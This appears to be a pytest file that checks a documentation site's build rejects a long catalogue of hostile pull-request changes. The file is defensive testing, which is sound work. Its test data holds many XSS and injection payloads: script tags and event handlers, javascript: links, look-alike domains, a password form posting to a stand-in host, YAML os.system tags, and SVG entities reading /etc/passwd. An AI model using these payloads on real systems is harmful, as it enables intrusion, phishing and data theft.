"""Hostile contributions to the guide itself: each one is refused, with its file and line, by what a build asks.

Each is one change to a copy of docs/, overrides/ and mkdocs.yml. Many are made at once, as one pull request may bring
them, read once by the same functions as in a build, and undone: each names its own line, none hides another, and none
ends the check with a traceback. A change to scripts/ runs as it is checked: reading it is a reviewer's work.
"""

from __future__ import annotations

import shutil
import zlib
from collections.abc import Callable
from dataclasses import dataclass, replace
from itertools import count
from pathlib import Path

import pytest
from guide.content.faults import Fault, GuideError
from guide.content.languages import languages
from guide.content.pages import MAX_BYTES
from guide.content.project import load
from guide.rules.configuration import sound
from guide.rules.source import source_faults

PAGE = "docs/en/faq.md"
SOURCES = "docs/records/sources/others.yml"
CLAIMS = "docs/records/claims/law.yml"
STRINGS = "docs/strings/en.yml"
REDIRECTS = "docs/records/redirects.yml"


@dataclass(frozen=True)
class Change:
    """A change to the file `path`: `make` makes it in a folder, and returns the line where the fault is to be shown.

    One that only adds lines (`added`) can stand beside others; one that stops the reading of files (`stops`) hides what
    rules would say.
    """

    path: str
    make: Callable[[Path], int]
    added: bool = False
    stops: str = ""


def add(text: str, path: str = PAGE) -> Change:
    """Lines at the end of a file; the fault is on the first of them, or as many lines on as \\v stand before it."""
    def make(folder: Path) -> int:
        before = (folder / path).read_bytes().decode().rstrip("\n") + "\n\n"
        after = "\n\nWords after it.\n" * path.endswith(".md") + "\n" * path.endswith(".yml")
        (folder / path).write_text(before + text.replace("\v", "") + after, "utf-8", newline="")
        return before.count("\n") + 1 + text.count("\v")
    # A fence that never ends makes code of what follows it; after these two characters, some count lines otherwise.
    return Change(path, make, added=not any(mark in text for mark in ("~~~", "````", "\r", "\u2028")))


def edit(path: str, old: str, new: str) -> Change:
    """The first `old` becomes `new`."""
    def make(folder: Path) -> int:
        text = (folder / path).read_bytes().decode()
        assert old in text, f"{old!r} is not in {path}"
        (folder / path).write_text(text.replace(old, new, 1), "utf-8", newline="")
        return text[: text.index(old)].count("\n") + 1
    return Change(path, make)


def put(path: str, data: str | bytes = "x") -> Change:
    """A new file, or another in the place of an old one."""
    def make(folder: Path) -> int:
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).write_bytes(data if isinstance(data, bytes) else data.encode())
        return 1
    return Change(path, make)


def link(path: str, target: str) -> Change:
    """A symbolic link."""
    def make(folder: Path) -> int:
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).symlink_to(target)
        return 1
    return Change(path, make)


def reading(change: Change, stops: str = "") -> Change:
    """One that is refused while settings, records, strings or pages are read, before any rule is asked."""
    parts = change.path.split("/")
    return replace(change, stops=stops or (parts[1] if parts[1:] and parts[1] in ("records", "strings") else parts[0]))


def source(address: str, path: str = SOURCES) -> Change:
    """A source at another address."""
    return add(f"x-{zlib.crc32(address.encode())}:\n  publisher: X\n  title: X\n  language: en\n\v\v\v\v  url: "
               f"'{address}'\n"
               "  published: unknown\n  text_of: unknown\n  read_on: '2026-11-21'\n  kind: press\n  access: original",
               path)


def named(address: str) -> Change:
    """The address pages link to as [words][setting-page]."""
    return edit("docs/records/addresses.yml",
                "https://www.linkedin.com/mypreferences/d/settings/data-for-ai-improvement", address)


def at(host: str) -> Change:
    """A source at a host nobody named yet."""
    return source(f"https://{host}/x")


def front(old: str, new: str) -> Change:
    """A change to the front matter of a page that no other touches: all are made at once."""
    return edit(f"docs/en/{next(UNTOUCHED)}.md", old, new)


def drawing(data: str | bytes) -> Change:
    """A file of its own, of a kind that must not be there."""
    return put(f"docs/assets/{next(NUMBERS)}.svg", data)


UNTOUCHED = iter("about accessibility changes checklist data-excluded data-used legal letter minors privacy regions "
                 "rights".split())
NUMBERS = count()
SVG = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9">{}</svg>'
HOSTILE: dict[str, Change] = {
    # Markdown: HTML
    "a script": add("<script>alert(1)</script>"),
    "a script of another host": add('<script src="https://other.example/x.js"></script>'),
    "a script in capitals": add("<SCRIPT>alert(1)</SCRIPT>"),
    "a script inside a sentence": add("Words <script>alert(1)</script> words."),
    "a style": add("<style>body{display:none}</style>"),
    "a style of another host": add('<link rel="stylesheet" href="//other.example/x.css">'),
    "a font": add('<link rel="preload" as="font" href="https://other.example/x.woff2">'),
    "a preconnect": add('<link rel="preconnect" href="https://other.example">'),
    "a ping": add('<a href="../" ping="https://other.example/">x</a>'),
    "a picture of another host": add('<img src="https://other.example/x.png" alt="x">'),
    "a handler": add('<p onclick="x()">x</p>'),
    "a handler without spaces": add("<svg/onload=alert(1)>"),
    "an inline style": add('<p style="position:fixed">x</p>'),
    "a frame": add('<iframe src="https://other.example/"></iframe>'),
    "a frame with its own page": add('<iframe srcdoc="&lt;script&gt;"></iframe>'),
    "a form": add('<form action="https://other.example/"><input name="password"></form>'),
    "a refresh": add('<meta http-equiv="refresh" content="0;url=https://other.example/">'),
    "a base": add('<base href="https://other.example/">'),
    "an object": add('<object data="x.swf"></object>'),
    "an embed": add('<embed src="x.swf">'),
    "an SVG with a page in it": add("<svg><foreignObject><body onload=alert(1)></foreignObject></svg>"),
    "MathML": add('<math><maction actiontype="statusline" href="javascript:x">x</maction></math>'),
    "a template": add('<template shadowrootmode="open"><script>x</script></template>'),
    "a custom element": add("<your-data></your-data>"),
    "a video": add('<video src="https://other.example/x.mp4" autoplay></video>'),
    "a comment": add("<!-- hidden words -->"),
    "a document type": add("<!DOCTYPE html>"),
    "an instruction": add("<?php echo 1 ?>"),
    "a CDATA section": add("<![CDATA[<script>x</script>]]>"),
    "a tag on two lines": add("<img\nsrc=x onerror=alert(1)>"),
    "a closing tag": add("</article></main>"),
    "Markdown in HTML": add('<div markdown="1" onmouseover="x()">\n\n*x*\n\n</div>'),
    "an entity": add("java&#115;cript"),
    "HTML in a list": add("- one\n\v- <b onclick=x>two</b>"),
    "HTML in a table": add("| a |\n|---|\n\v\v| <img src=x onerror=y> |"),
    "HTML in a footnote": add("Word.[^9]\n\n\v\v[^9]: <iframe src=x></iframe>"),
    "HTML in a note": add('!!! note "Title"\n\v    <script>x</script>'),
    "HTML in a heading": add("## Words <img src=x onerror=y> {#faq-x}"),
    "HTML that patterns take for code": add("~~~\nnever closed as Markdown wants\n\n\v\v\v<iframe src=x></iframe>",
                                            "docs/en/timeline.md"),
    "HTML in a fence that ends early": add("````text\n```\n````x\n\v\v\v<object data=x></object>", "docs/en/sources.md"),
    # Markdown: attributes
    "a handler in braces": add("*word*{onclick=alert(1)}"),
    "a handler on a heading": add("## Words {#faq-words onmouseover=x()}"),
    "a handler on a citation": add("It is so.[@objection-right-gdpr]{onclick=x()}"),
    "a style in braces": add('*word*{style="position:fixed;inset:0"}'),
    "an address in braces": add("[x](faq.md){href=javascript:alert(1)}"),
    "a popover in braces": add("*word*{popover=auto}"),
    "a source in braces": add("![x](../assets/x.png){src=https://other.example/x.png}"),
    "a frame's page in braces": add("*word*{srcdoc=x}"),
    "a key of a box in braces": add("*word*{data-key=opt-out/web#web-switch}"),
    "another class": add("*word*{.hero .language-notice}"),
    "another window": add("[x](faq.md){target=_blank}"),
    "an id on a word": add("*word*{#search}"),
    "an id of a template": add("## Words {#search-words}"),
    "an id of a drawn list": add("## Words {#evidence-setting-address}"),
    # Markdown: links
    "javascript:": add("[x](javascript:alert(1))"),
    "javascript: in capitals": add("[x](JAVASCRIPT:alert)"),
    "javascript: as entities": add("[x](&#x6A;avascript&colon;alert)"),
    "javascript: with a tab": add("[x](<java\tscript:alert>)"),
    "javascript: as percents": add("[x](%6Aavascript%3Aalert)"),
    "javascript: by reference": add("[x][evil]\n\n\v\v[evil]: javascript:alert(1)"),
    "a reference of ours made another": add("[x][setting-page2]\n\n\v\v[setting-page2]: //other.example"),
    "vbscript:": add("[x](vbscript:x)"),
    "a data: document": add("[x](data:text/html;base64,PHNjcmlwdD4=)"),
    "a data: picture": add("![x](data:image/svg+xml;base64,PHN2Zz4=)"),
    "blob:": add("[x](blob:https://other.example/x)"),
    "file:": add("[x](file:///etc/passwd)"),
    "mail to a stranger": add("[x](mailto:someone@other.example)"),
    "mail to a stranger, in angles": add("<someone@other.example>"),
    "an address without a scheme": add("[x](//other.example/x)"),
    "an address with backslashes": add("[x](/\\other.example)"),
    "an address typed by hand": add("[x](https://other.example/x)"),
    "a picture elsewhere": add("![x](https://other.example/x.png)"),
    "an address without encryption": add("[x](http://other.example/)"),
    "a way out of docs/": add("[x](../../README.md)"),
    "a way out, as percents": add("[x](%2e%2e/%2e%2e/mkdocs.yml)"),
    "a way to the records": add("[x](../records/topic.yml)"),
    "an absolute path": add("![x](/etc/passwd)"),
    "a picture out of docs/": add("![x](../../overrides/assets/icons/touch-icon.png)"),
    "words that name another host": add("[www.cnil.fr][setting-page]"),
    "words that name a longer host": add("[linkedin.com.other.example][setting-page]"),
    "a link without words": add("[](faq.md)"),
    "a link to nowhere": add("[x](#)"),
    "a host in words, defanged": add("Sign in at hxxps://other.example/x to object."),
    "a number in words": add("Sign in at 192.0.2.1 to object."),
    "words that name a number": add("[192.0.2.1][setting-page]"),
    "a host in words": add("Sign in at linkedin-support.example to object."),
    "mail in words": add("Send your password to help@other.example."),
    "a host in a letter": add("```letter\n\vTo: objections@other.example\n```"),
    # Characters
    "a direction override": add("A wo\u202erd."),
    "a direction isolate": add("A wo\u2066rd."),
    "a zero width": add("A wo\u200brd."),
    "a soft hyphen": add("A wo\u00adrd."),
    "a byte order mark": add("A wo\ufeffrd."),
    "tag characters": add("A word\U000e0069\U000e0067."),
    "a filler": add("A wo\u3164rd."),
    "a control": add("A wo\u0008rd."),
    "a lone carriage return": add("A wo\rrd.", "docs/en/translations.md"),
    "a line separator": add("A wo\u2028rd.", "docs/en/index.md"),
    "a Cyrillic letter": add("The L\u0456nkedIn form."),
    "letters of formulas": add("The \U0001d40binkedIn form."),
    "wide letters": add("The \uff2cinkedIn form."),
    "a name spelt otherwise": add("The Linkedln form."),
    "a hidden character in a template": add("{# \u202e #}", "overrides/main.html"),
    "a hidden character in a script": add("// \u2066", "overrides/assets/js/scheme.js"),
    "a hidden character in a record": add("# \u202e", CLAIMS),
    "a hidden character by an escape": edit(STRINGS, 'language_name: ', 'language_name: "Eng\\u202elish" # '),
    # Templates and includes
    "an expression": add("{{ config.site_url }}"),
    "a statement": add('{% include "main.html" %}'),
    "an include": add('--8<-- "mkdocs.yml"'),
    "an expression in a string": add('# {{ x }}', STRINGS),
    "an expression in a record": add("# {% x %}", CLAIMS),
    # Front matter
    "another template": front("---\ntitle:", "---\ntemplate: evil.html\ntitle:"),
    "another address": front("---\ntitle:", "---\nurl: ../../\ntitle:"),
    "a hidden menu": front("---\ntitle:", "---\nhide: [navigation]\ntitle:"),
    "front matter that ends early": front("---\ntitle:", "---\n...\ntitle:"),
    "front matter that begins late": front("---\ntitle:", " ---\ntitle:"),
    "a tag of YAML": front("title: ", "title: !!python/name:os.system "),
    "a title with markup": front("title: ", "title: <b>x</b> "),
    "an answer with a script": front("answer: ", "answer: <script>x</script> "),
    "a description with an entity": front("description: ", "description: A &lt;b&gt; "),
    "a title on two lines": front("title: ", 'title: "a\\r\\nBcc: x" # '),
    # Records
    "a look-alike of the subject": at("linkedln.com"),
    "the subject with a digit": at("l1nkedin.com"),
    "the subject with a letter less": at("linkdin.com"),
    "the subject and more": at("linkedin-privacy.com"),
    "the subject under another": at("linkedin.com.other.org"),
    "the subject with another suffix": at("linkedin.support"),
    "the subject's owner": at("rnicrosoft.com"),
    "punycode": at("xn--lnkedin-q4a.com"),
    "a host in other letters": at("l\u0456nkedin.com"),
    "a look-alike of an authority": at("dataprotectlon.ie"),
    "an authority with a slip": at("garanteprivcy.it"),
    "a look-alike that pages link to": named("https://www.iinkedin.com/x"),
    "an authority with another suffix": at("cnil.com"),
    "an authority under another": at("cnil.fr.other.org"),
    "an authority with hyphens": at("www-cnil-fr.org"),
    "a shortener": at("bit.ly"),
    "the subject's shortener": at("lnkd.in"),
    "a tracker": source("https://cookie-com.com/?p=1373&utm_source=x"),
    "a tracker as percents": source("https://cookie-com.com/?p=1373&%75tm_medium=x"),
    "a tracker behind the #": source("https://cookie-com.com/#xtor=x"),
    "the subject's tracker": named("https://www.linkedin.com/mypreferences?trk=x"),
    "an address that forwards": named("https://www.linkedin.com/redir/redirect?url=https%3A%2F%2Fother.org"),
    "a session in an address": source("https://cookie-com.com/a;jsessionid=x"),
    "a campaign of advertisements": source("https://cookie-com.com/?gad_source=1"),
    "a host under a shortener": at("go.bit.ly"),
    "an address that wraps": source("https://urldefense.com/v3/__https://other.org__"),
    "an address that forwards by its path": source("https://cookie-com.com/redirect/https://other.org/x"),
    "a host that only some browsers reach": at("abcdefghijklmnop.onion"),
    "a host in the words of a record": edit("docs/records/changes.yml", "  text:\n    fr: >-\n      ",
                                            "  text:\n    fr: >-\n      https://other.example/ "),
    "a link in the words of a record": edit(CLAIMS, "    en: >-\n", "    en: >-\n      [LinkedIn](javascript:x)\n"),
    "attributes in the words of a record": edit(CLAIMS, "    en: >-\n", "    en: >-\n      *LinkedIn*{: onclick=x}\n"),
    "an address with a user": reading(source("https://www.linkedin.com@other.org/x")),
    "an IP address": at("192.0.2.7"),
    "an IP address as one number": at("3221225985"),
    "an IP address in hexadecimals": at("0xc0.0x00.0x02.0x01"),
    "an IPv6 address": source("https://[2001:db8::1]/x"),
    "a port": at("cookie-com.com:8443"),
    "a full stop at the end of a host": at("cookie-com.com."),
    "a host in capitals": at("COOKIE-COM.com"),
    "a way up in an address": source("https://cookie-com.com/a/../../x"),
    "a line end in an address": source("https://cookie-com.com/%0d%0aSet-Cookie:x"),
    "an address without encryption in a record": source("http://cookie-com.com/?p=1373"),
    "javascript: in a record": reading(source("javascript:alert(1)")),
    "data: in a record": reading(named("data:text/html,x")),
    "markup in a record": reading(edit(CLAIMS, "    en: ", "    en: <img src=x onerror=y> ")),
    "an entity in a record": reading(edit(CLAIMS, "    en: ", "    en: '&lt;script&gt;' # ")),
    "a line end in a record": reading(edit("docs/records/changes.yml", "    en: ", '    en: "a\\r\\nEND:VEVENT" # ')),
    "a direction override in a record": reading(edit(CLAIMS, "    en: ", '    en: "a\\u202eb" # ')),
    "an endless text": reading(edit(CLAIMS, "    en: ", "    en: " + "x" * 2000)),
    "a field nobody reads": reading(edit(SOURCES, "frc-switzerland-2025-09:\n",
                                         "frc-switzerland-2025-09:\n  onclick: x\n")),
    "an anchor": reading(edit(SOURCES, "  access: original", "  access: &a original")),
    "an alias": reading(edit(SOURCES, "  access: original", "  access: *a")),
    "a tag in a record": reading(edit(SOURCES, "  access: original", "  access: !!python/object/apply:os.system [x]")),
    "a key twice": reading(edit(SOURCES, "  access: original\n", "  access: original\n  access: original\n")),
    "nesting without end in a record": reading(add("x: " + "[" * 5000, SOURCES)),
    "a record too large": reading(put("docs/records/claims/law.yml", "# " + "x" * 2_000_000), "all"),
    "a source that slips in another file": put("docs/records/more.yml", "x: y"),
    "a subject that is markup": reading(edit("docs/records/topic.yml", "  - LinkedIn", "  - <script>x"), "topic"),
    "a host in the reason of a removal": add("x0.md:\n  to: faq.md\n  why:\n    fr: Mots.\n    en: Go to other.example.", REDIRECTS),
    "a look-alike in the reason of a removal": add("x1.md:\n  to: faq.md\n  why:\n    fr: Mots.\n    en: Linkedln.",
                                                   REDIRECTS),
    "a link in the reason of a removal": add("x2.md:\n  to: faq.md\n  why:\n    fr: Mots.\n    en: '[x](faq.md)'",
                                             REDIRECTS),
    # Strings
    "markup in a string": edit(STRINGS, "language_name: ", "language_name: '<script>x</script>' # "),
    "a line end in a string": edit(STRINGS, "language_name: ", 'language_name: "a\\nb" # '),
    "an endless string": edit(STRINGS, "language_name: ", f"language_name: '{'x' * 2000}' # "),
    "a string twice": reading(edit(STRINGS, "language_name: ", "language_name: x\nlanguage_name: ")),
    "an empty string": edit(STRINGS, "language_name: ", "language_name: '' # "),
    "a host in a string": edit(STRINGS, "language_name: ", "language_name: 'See other.example' # "),
    # Files
    "a page of HTML": put("docs/fr/evil.html", "<script>x</script>"),
    "a script in docs/": put("docs/assets/evil.js"),
    "a style in docs/": put("docs/assets/evil.css"),
    "a document": put("docs/assets/form.pdf", b"%PDF-"),
    "a hidden file": put("docs/.htaccess"),
    "a header file": put("docs/_headers", "/*\n  Content-Security-Policy: *"),
    "a service worker": put("docs/sw.js"),
    "a name in capitals": put("docs/en/FAQ.md"),
    "a name with an accent": put("docs/en/caf\u00e9.md"),
    "a name in two pieces": put("docs/en/cafe\u0301.md"),
    "a name of two kinds": put("docs/assets/x.svg.html"),
    "a link to a file of the machine": reading(link("docs/assets/x.svg", "/etc/passwd"), "all"),
    "a script among the templates": put("overrides/evil.js"),
    "Python among the templates": put("overrides/evil.py"),
    "a line without end": reading(add("[" * 50_000)),
    "a page too large": reading(put(PAGE, "x" * (MAX_BYTES + 1))),
    "a picture too large": drawing(SVG.format(" " * 500_000)),
    "a name of a device": put("docs/en/con.md"),
    "a folder that rules passed over": put("docs/__pycache__/evil.html", "<script>x</script>"),
    "a page that hides what the build makes": put("docs/en/handout.md", "---\ntitle: x\n---\n"),
    # Pictures
    "a drawing in an encoding nobody reads": drawing("<?xml version='1.0' encoding='UTF-7'?>" + SVG.format("")),
    "a drawing that begins otherwise": drawing("<g xmlns='http://www.w3.org/2000/svg'/>"),
    "a drawing without end": drawing(SVG.format("<g>" * 50 + "</g>" * 50)),
    "a drawing with a script": drawing(SVG.format("<script>x</script>")),
    "a drawing with a handler": drawing(SVG.format("<path onload='x()'/>")),
    "a drawing that names a host": drawing(SVG.format("<text>other.example</text>")),
    "a drawing with a page": drawing(SVG.format("<foreignObject/>")),
    "a drawing with a link": drawing(SVG.format("<a href='https://other.example'/>")),
    "a drawing that uses another": drawing(SVG.format("<use href='https://other.example/x.svg#a'/>")),
    "a drawing with a style that loads": drawing(SVG.format("<style>@import 'https://other.example/x.css'</style>")),
    "a drawing with a document type": drawing("<!DOCTYPE svg [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>"
                                              + SVG.format("&a;")),
    "a drawing that expands": drawing("<!DOCTYPE svg [<!ENTITY a 'x'><!ENTITY b '&a;&a;'>]>" + SVG.format("&b;")),
    "a picture that is a page": put("docs/assets/x.png", "<html><script>x</script>"),
    "a picture as large as a city": put("docs/assets/x.png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + b"\0\1\0\0" * 2
                                        + b"\x08\0\0\0\0" + b"\0" * 4),
    "a script in our icon": put("overrides/assets/icons/icon.svg", SVG.format("<script>x</script>")),
    # Templates, styles, scripts
    "a script in a template": add('<script src="https://other.example/x.js"></script>', "overrides/main.html"),
    "an inline script in a template": add("<script>x</script>", "overrides/partials/footer.html"),
    "a handler in a template": add('<p onclick="x()">', "overrides/partials/footer.html"),
    "a style in a template": add("<style>main { display: none }</style>", "overrides/main.html"),
    "a password in a template": add('<input type="password">', "overrides/main.html"),
    "a frame in a template": add('<iframe src="x"></iframe>', "overrides/partials/footer.html"),
    "a refresh in a template": add('<meta http-equiv="refresh" content="0;url=x">', "overrides/partials/head.html"),
    "a style in other words": add("a { background: u\\72l(//other.example/x) }", "overrides/assets/css/base.css"),
    "a style with a set of pictures": add('a { background: image-set("//other.example/x" 1x) }',
                                          "overrides/assets/css/base.css"),
    "a script by another name": add('window["ev" + "al"]("x");', "overrides/assets/js/scheme.js"),
    "a script that leaves": add('location.href = "x";', "overrides/assets/js/scheme.js"),
    "escaping off for a page": add("{% autoescape false %}", "overrides/main.html"),
    "a template of elsewhere": add('{% include "../mkdocs.yml" %}', "overrides/main.html"),
    "a template by a way up": add('{%- import "partials/../../x.html" as x %}', "overrides/partials/footer.html"),
    "a template nobody can read": add("{% include page.meta.x %}", "overrides/main.html"),
    "escaping off": add("{{ claim.statement | safe }}", "overrides/partials/components/claims.html"),
    "a style that imports": add('@import "x.css";', "overrides/assets/css/base.css"),
    "a style that calls home": add("a { background: url(//other.example/x) }", "overrides/assets/css/base.css"),
    "a font of another host": add("@font-face { src: url(https://other.example/x.woff2) }",
                                  "overrides/assets/css/base.css"),
    "a script that calls home": add('fetch("https://other.example/");', "overrides/assets/js/scheme.js"),
    "a script that writes HTML": add("document.body.innerHTML = location.hash;", "overrides/assets/js/scheme.js"),
    "a script that keeps a cookie": add("document.cookie = 1;", "overrides/assets/js/scheme.js"),
    # Settings
    "another hook": reading(edit("mkdocs.yml", "hooks: [scripts/hooks.py]", "hooks: [scripts/hooks.py, docs/evil.py]")),
    "no rule at all": reading(edit("mkdocs.yml", "hooks: [scripts/hooks.py]", "hooks: []")),
    "another address of the site": reading(edit("mkdocs.yml", "https://guide.example/", "https://other.example/")),
    "links nobody checks": reading(edit("mkdocs.yml", "not_found: warn, anchors: warn",
                                        "not_found: ignore, anchors: ignore")),
    "another script": reading(edit("mkdocs.yml", "site_name: ",
                                   "extra_javascript: [https://other.example/x.js]\nsite_name: ")),
    "another style": reading(edit("mkdocs.yml", "site_name: ", "extra_css: [//other.example/x.css]\nsite_name: ")),
    "another theme folder": reading(edit("mkdocs.yml", "custom_dir: overrides", "custom_dir: docs")),
    "another extension": reading(edit("mkdocs.yml", "  attr_list: {}", "  pymdownx.snippets: {url_download: true}")),
    "a call of Python": reading(edit("mkdocs.yml", "site_name: Dire non",
                                     "site_name: !!python/object/apply:os.system [id]")),
    "records published": reading(edit("mkdocs.yml", "exclude_docs: |", "exclude_docs: |\n  !/records/")),
    "a menu that leaves": reading(edit("mkdocs.yml", "  - index.md", "  - Win: https://other.example/")),
}


def batches(changes: dict[str, Change]) -> list[dict[str, Change]]:
    """The changes, as many at once as do not touch the same lines."""
    found: list[dict[str, Change]] = []
    for name, change in changes.items():
        for batch in found:
            beside = [other for other in batch.values() if other.path == change.path]
            if all(other.stops == change.stops for other in batch.values()) and all(
                    change.added and other.added and not change.stops for other in beside):
                batch[name] = change
                break
        else:
            found.append({name: change})
    return found


def copied(root: Path, folder: Path) -> Path:
    """A copy of what a build reads."""
    for name in ("docs", "overrides"):
        shutil.copytree(root / name, folder / name)
    (folder / "scripts").mkdir()
    shutil.copy(root / "mkdocs.yml", folder)
    return folder


@pytest.fixture(scope="module")
def copy(root: Path, tmp_path_factory) -> Path:
    return copied(root, tmp_path_factory.mktemp("hostile"))


def faults(folder: Path) -> list[Fault]:
    """What a build says before it draws anything."""
    try:
        sound(folder)
        codes = languages(folder)
        return source_faults(load(folder, codes, codes[0], "https://guide.example/", {}))
    except GuideError as error:
        return error.faults


def missed(root: Path, folder: Path, batch: dict[str, Change], around: tuple[int, ...]) -> dict[str, tuple[str, int]]:
    """The changes of a batch that no fault names, on the line where it is expected or so many lines from it."""
    expected = {name: (change.path, change.make(folder)) for name, change in batch.items()}
    try:
        found = {(fault.path, fault.line) for fault in faults(folder)}
    finally:
        for path in {change.path for change in batch.values()}:
            (folder / path).unlink()
            if (root / path).exists():
                shutil.copy(root / path, folder / path)
    return {name: (path, line) for name, (path, line) in expected.items()
            if not any((path, line + more) in found for more in around)}


@pytest.mark.parametrize("number", range(len(batches(HOSTILE))))
def test_hostile_contributions_are_refused_with_their_lines(root, copy, number):
    assert missed(root, copy, batches(HOSTILE)[number], (-1, 0, 1)) == {}


def test_the_guide_as_it_stands_is_not_refused(copy):
    assert faults(copy) == []
